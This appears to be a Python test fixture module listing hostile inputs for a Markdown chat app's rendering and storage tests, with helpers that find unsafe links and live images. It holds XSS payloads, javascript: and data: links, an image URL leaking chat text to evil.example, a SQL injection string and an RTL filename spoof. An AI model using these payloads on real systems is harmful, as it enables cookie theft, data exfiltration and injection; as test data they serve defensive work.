"""Hostile text, shared by the rendering, store and page tests."""

from __future__ import annotations

import re

from core.markdown import _destination_at, _escaped, is_safe_url

MEGABYTE = 1_000_000

# name -> text a person could paste or a model could answer with.
HOSTILE = {
    "script tag": "<script>alert(document.cookie)</script> hello",
    "img onerror": '<img src=x onerror="alert(1)">',
    "svg onload": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "javascript link": "[click me](javascript:alert(1))",
    "entity javascript link": "[click](&#106;avascript:alert(1))",
    "tab javascript link": "[click](<java\tscript:alert(1)>)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference": "[click][x]\n\n[x]: javascript:alert(1)",
    "data link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[vb](vbscript:msgbox(1))",
    "remote image": "![pixel](https://evil.example/collect?chat=secret)",
    "html in markdown": "**bold <b onmouseover=alert(1)>x</b>** and <a href='javascript:x'>a</a>",
    "katex href": r"$\href{javascript:alert(1)}{click}$",
    "sql": "'; DROP TABLE messages; -- \" OR 1=1 --",
    "fts": 'NEAR(a b) "unbalanced * ^col:x OR AND NOT -',
    "nul": "before\x00after",
    "lone surrogate": "broken \ud800 text",
    "controls": "bell\x07 backspace\x08 escape\x1b[31m red \x7f",
    "rtl override": "user\u202egpj.exe and \u2066isolate\u2069",
    "emoji": "family 👨‍👩‍👧‍👦 flag 🇨🇳 skin 👍🏽",
    "zero width": "zero\u200bwidth\ufeffjoiner",
    "megabyte": ("lorem ipsum dolor sit amet, " * (MEGABYTE // 28 + 1))[:MEGABYTE],
    "megabyte of markup": ("> *a* `b` [c](javascript:d) ![e](f) \\[ $1 \n" * (MEGABYTE // 40))[
        :MEGABYTE
    ],
}

_LINK_OPENER = re.compile(r"\]\(|\]:")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}):[^\s<>]*>")


def live_unsafe_links(markdown: str) -> list[str]:
    """Links or autolinks to unsafe targets that Markdown would still make live."""
    found = []
    for match in _LINK_OPENER.finditer(markdown):
        target = _destination_at(markdown, match.end())
        if not is_safe_url(target):
            found.append(target[:40])
    for match in _AUTOLINK.finditer(markdown):
        if not is_safe_url(match.group(0)[1:-1]) and not _escaped(markdown, match.start()):
            found.append(match.group(0)[:40])
    return found


def live_images(markdown: str) -> list[int]:
    return [m.start() for m in re.finditer(r"!\[", markdown) if not _escaped(markdown, m.start())]
